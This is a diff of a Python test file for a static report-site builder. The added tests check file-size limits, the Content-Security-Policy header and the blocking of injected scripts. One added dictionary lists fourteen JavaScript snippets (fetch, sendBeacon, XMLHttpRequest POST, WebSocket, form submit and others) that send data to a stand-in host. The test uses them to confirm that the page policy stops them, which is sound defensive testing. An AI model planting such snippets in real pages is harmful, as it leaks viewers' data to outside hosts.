@@ -2,20 +2,24 @@
 
 from __future__ import annotations
 
+import contextlib
 import html
+import io
 import os
 import re
+import resource
 import shutil
 from pathlib import Path
 
 import numpy as np
 import pytest
 from matplotlib import image
-from site_pages import Page, dead_links, in_a_browser, pictures, visited
+from site_pages import Page, dead_links, in_a_browser, opened, pictures, visited
 
 from fedcore.errors import DataError
+from fedcore.experiments import job
 from fedcore.history import History
-from fedcore.reports import origins, tables, verdict_pages
+from fedcore.reports import origins, steps, tables, verdict_pages
 from fedcore.reports.machine import machine
 from fedcore.reports.site import build, curves, links, model, notebooks
 
@@ -90,6 +94,36 @@ def test_a_damaged_table_leaves_the_old_site(done):
     assert {path.name: path.read_bytes() for path in site.iterdir() if path.is_file()} == before
     with pytest.raises(DataError, match="there are no verdicts and no plans"):
         build.write(site, site, command="c", surrogates=False)
+
+
+@pytest.mark.parametrize("where", ["assets/plotly.min.js", "twice/ends.png"])
+@pytest.mark.fault("disk", "a limit on the size of a file that the report copies")
+def test_a_limit_on_the_size_of_files_leaves_the_old_site(done, tmp_path, monkeypatch, where):
+    """The second paper is written by another process than the rest."""
+    monkeypatch.chdir(done.root)
+    results, size = Path("results/tiny"), 8_000_000
+    for kind, ending in (("verdicts", "tsv"), ("plans", "json")):
+        shutil.copyfile(results / f"{kind}/tiny.{ending}", results / f"{kind}/twice.{ending}")
+    shutil.copytree(results / "figures/tiny", results / "figures/twice")
+    if where.startswith("twice"):
+        with open(results / "figures/twice/ends.png", "ab") as figure:
+            figure.write(bytes(2 * size))
+    before = {path: path.read_bytes() for path in results.rglob("report/**/*") if path.is_file()}
+    said = io.StringIO()
+    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
+    resource.setrlimit(resource.RLIMIT_FSIZE, (size if "twice" in where else 1_000_000, hard))
+    try:
+        with contextlib.redirect_stderr(said), pytest.raises(SystemExit) as end:
+            with job.logged(str(tmp_path / "log")):
+                steps.site(
+                    "results/tiny/report/index.html", command="c", surrogates=False, processes=2
+                )
+    finally:
+        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
+    assert end.value.code == 1 and "Traceback" not in (tmp_path / "log").read_text()
+    assert where in said.getvalue()
+    after = {path: path.read_bytes() for path in results.rglob("report/**/*") if path.is_file()}
+    assert after == before and not list(results.glob(".report*"))
 
 
 def test_curves_are_medians_with_all_repeats_between_the_bands(first_run):
@@ -217,6 +251,76 @@ def test_a_figure_has_its_printed_items_beside_it(site):
     beside = page.partition('id="figure-ends"')[2].partition('id="items"')[0]
     assert '<details class="judged" open><summary>2 printed items beside this figure' in beside
     assert 'href="table1-power-easy.html"' in beside and "theorem1" not in beside
+
+
+def test_the_head_of_every_page_begins_with_what_it_may_load(site):
+    for path in site.rglob("*.html"):
+        text = path.read_text(encoding="utf-8")
+        assert re.search(r"<head>\s*<meta http-equiv=.Content-Security-Policy", text), path
+        assert not re.search(r"<script(?![^>]* src=)[^>]*>|<[^>]* on\w+=", text), path
+
+
+OUT = """const out = "https://example.invalid/";
+const add = (tag, words) => {
+  const made = Object.assign(document.createElement(tag), words);
+  document.body.append(made);
+  return made;
+};
+"""
+WAYS = {
+    "fetch": "fetch(out, {mode: 'no-cors'}).catch(() => 0)",
+    "request": "const r = new XMLHttpRequest(); r.open('POST', out); r.send('x')",
+    "beacon": "navigator.sendBeacon(out, 'x')",
+    "stream": "new EventSource(out)",
+    "socket": "new WebSocket(out.replace('http', 'ws'))",
+    "script": "import(out).catch(() => 0)",
+    "image": "new Image().src = out",
+    "style": "document.body.style.backgroundImage = `url(${out})`",
+    "frame": "add('iframe', {src: out})",
+    "form": "add('iframe', {name: 'f'}); add('form', {action: out, target: 'f'}).submit()",
+    "video": "add('video', {src: out})",
+    "object": "add('object', {data: out})",
+    "sheet": "add('link', {rel: 'stylesheet', href: out})",
+    "prefetch": "add('link', {rel: 'prefetch', href: out})",
+}
+
+
+def leaky(site: Path, folder: Path, ways: dict[str, str], *, free: bool) -> list[str]:
+    """Make a page of the site for each script, which it loads as its own; without its policy."""
+    shutil.copytree(site, folder)
+    page = (site / "tiny/curves.html").read_text(encoding="utf-8")
+    if free:
+        page = re.sub(r"<meta http-equiv=[^>]*>", "", page)
+    for name, script in ways.items():
+        (folder / f"tiny/leak-{name}.js").write_text(f"{{ {OUT}{script} }}", encoding="utf-8")
+        leak = f'<script src="leak-{name}.js"></script></body>'
+        text = page.replace("</body>", leak)
+        (folder / f"tiny/{name}.html").write_text(text, encoding="utf-8")
+    return [f"tiny/{name}.html" for name in ways]
+
+
+def leaves(errors: list[str]) -> bool:
+    return any(re.match(r"asks for \w+://example.invalid/", error) for error in errors)
+
+
+@in_a_browser
+@pytest.mark.fault("hostile", "a script of the pages that sends what they show elsewhere")
+def test_no_script_of_a_page_sends_anything(site, tmp_path):
+    pages = leaky(site, tmp_path / "free", WAYS, free=True)
+    found = visited(tmp_path / "free", pages, 1200)
+    assert [page for page in pages if not leaves(found[page]["errors"])] == []  # it is noticed
+    leaky(site, tmp_path / "held", WAYS, free=False)
+    found = visited(tmp_path / "held", pages, 1200)
+    assert [page for page in pages if leaves(found[page]["errors"])] == []
+    assert [page for page in pages if not found[page]["errors"]] == []  # the console tells of it
+
+
+@in_a_browser
+def test_pages_that_are_opened_as_files_draw_and_ask_for_nothing(site):
+    for page in ("curves", "replay", "index"):
+        shown, errors = opened(site / f"tiny/{page}.html")
+        assert errors == [], page
+        assert ('class="trace scatter' in shown) == (page != "index")
 
 
 def _luminance(colour: str) -> float:
